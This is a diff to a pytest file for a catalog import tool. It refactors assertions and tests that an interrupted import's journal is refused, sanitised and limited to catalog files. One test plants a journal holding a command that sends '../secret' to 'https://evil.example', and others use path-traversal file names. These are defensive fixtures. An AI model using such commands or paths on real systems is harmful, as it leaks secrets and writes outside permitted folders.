@@ -28,6 +28,10 @@ def catalog(site: Site) -> Path:
     return site.folder / "catalog_src"
 
 
+def names(site: Site) -> list[str]:
+    return sorted(path.name for path in catalog(site).iterdir())
+
+
 class Killed(BaseException):
     """The process dies."""
 
@@ -67,9 +71,7 @@ def test_interrupted_import_is_finished(count: int, site: Site, monkeypatch: pyt
     assert (catalog(site) / JOURNAL).stat().st_mode & 0o777 == 0o600
     unfinished_import.finish(catalog(site))
 
-    assert sorted(path.name for path in catalog(site).iterdir()) == [
-        "artists.yaml", "authors.yaml", "series", "site.yaml",
-    ]  # fmt: skip
+    assert names(site) == ["artists.yaml", "authors.yaml", "series", "site.yaml"]
     assert list((catalog(site) / "series").iterdir()) == []
     assert (catalog(site) / "authors.yaml").read_bytes() == FILES["authors.yaml"]
     assert (catalog(site) / "artists.yaml").read_bytes() == FILES["artists.yaml"]
@@ -90,32 +92,24 @@ def test_import_without_changes_leaves_no_journal(site: Site) -> None:
     unfinished_import.write(catalog(site), {})
     unfinished_import.write(catalog(site), {"authors.yaml": b"- {id: 1, name: A}\n"})
 
-    assert sorted(path.name for path in catalog(site).iterdir()) == ["authors.yaml", "series", "site.yaml"]
+    assert names(site) == ["authors.yaml", "series", "site.yaml"]
 
 
 @pytest.mark.parametrize("command", ["check", "build"])
-def test_unfinished_import_is_refused(command: str, site: Site, monkeypatch: pytest.MonkeyPatch) -> None:
-    """Also where no file has changed since the last build."""
+def test_unfinished_import_is_refused(command: str, site: Site) -> None:
+    """Also where no file has changed since the last build.
+
+    A repository of another person may contain a journal, and a message with a command that sends a secret file.
+    """
     site.build()
-    interrupted(site, FILES, 0, monkeypatch)
+    site.write(JOURNAL, journal("authors.yaml", arguments=["--key-file", "../secret", "https://evil.example"]))
     catalog_folder, out, conf = map(str, site.paths)
     words = [command, "--catalog", catalog_folder]
     result = CliRunner().invoke(cli.main, words if command == "check" else [*words, "--out", out, "--nginx", conf])
 
     assert result.exit_code == 1
     advice = f"run the same import again, or remove {catalog_folder}/{JOURNAL} if you started none"
-    assert f"an import is unfinished; {advice}" in result.output
-
-
-@pytest.mark.parametrize("command", ["check", "build"])
-def test_message_has_no_text_of_the_journal(command: str, site: Site) -> None:
-    """A repository of another person may contain a journal, and a message with a command that sends a secret file."""
-    site.write(JOURNAL, journal("authors.yaml", arguments=["--key-file", "../secret", "https://evil.example"]))
-    result = CliRunner().invoke(cli.main, [command, "--catalog", str(catalog(site))])
-
-    assert "an import is unfinished" in result.output
-    assert "secret" not in result.output
-    assert "evil" not in result.output
+    assert result.output == f"{catalog_folder}: an import is unfinished; {advice}\n"
 
 
 @pytest.mark.parametrize(
@@ -143,22 +137,14 @@ def journal(file: str, **more: object) -> str:
 
 @pytest.mark.parametrize(
     "text",
-    [
-        "no JSON",
-        "[]",
-        "{}",
-        '{"files":[]}',
-        '{"files":{"a.yaml":1}}',
-        '{"files":{"a.yaml":["","\\u0100"]}}',
-        '{"files":{"\\x":["",null]}}',
-    ],
+    ["no JSON", '{"files":{"a.yaml":1}}', '{"files":{"a.yaml":["","\\u0100"]}}', '{"files":{"\\x":["",null]}}'],
 )
 def test_damaged_journal_is_dropped(text: str, site: Site) -> None:
     """It names no file to write."""
     site.write(JOURNAL, text)
     unfinished_import.finish(catalog(site))
 
-    assert sorted(path.name for path in catalog(site).iterdir()) == ["series", "site.yaml"]
+    assert names(site) == ["series", "site.yaml"]
 
 
 @pytest.mark.parametrize("file", ["../up.yaml", ".git/config.yaml", "notes.txt", "series//x.yaml", "/x.yaml"])
@@ -167,7 +153,7 @@ def test_journal_names_catalog_files_only(file: str, site: Site) -> None:
     site.write(JOURNAL, f"{journal(file)}\n{journal('authors.yaml')}")
     unfinished_import.finish(catalog(site))
 
-    assert sorted(path.name for path in catalog(site).iterdir()) == ["authors.yaml", "series", "site.yaml"]
+    assert names(site) == ["authors.yaml", "series", "site.yaml"]
     assert not (site.folder / "up.yaml").exists()
 
 
@@ -197,12 +183,3 @@ def test_folder_with_other_files_is_kept(site: Site) -> None:
     folder.delete("series/one/series.yaml")
 
     assert [path.name for path in (catalog(site) / "series/one").iterdir()] == ["notes.txt"]
-
-
-def test_dry_run_is_refused(site: Site) -> None:
-    """It writes nothing, and what it compares is half written."""
-    site.write(JOURNAL, "{}")
-    result = CliRunner().invoke(cli.main, ["import", URL, "--dry-run", "--catalog", str(catalog(site))])
-
-    assert result.exit_code == 1
-    assert "an import is unfinished" in result.output
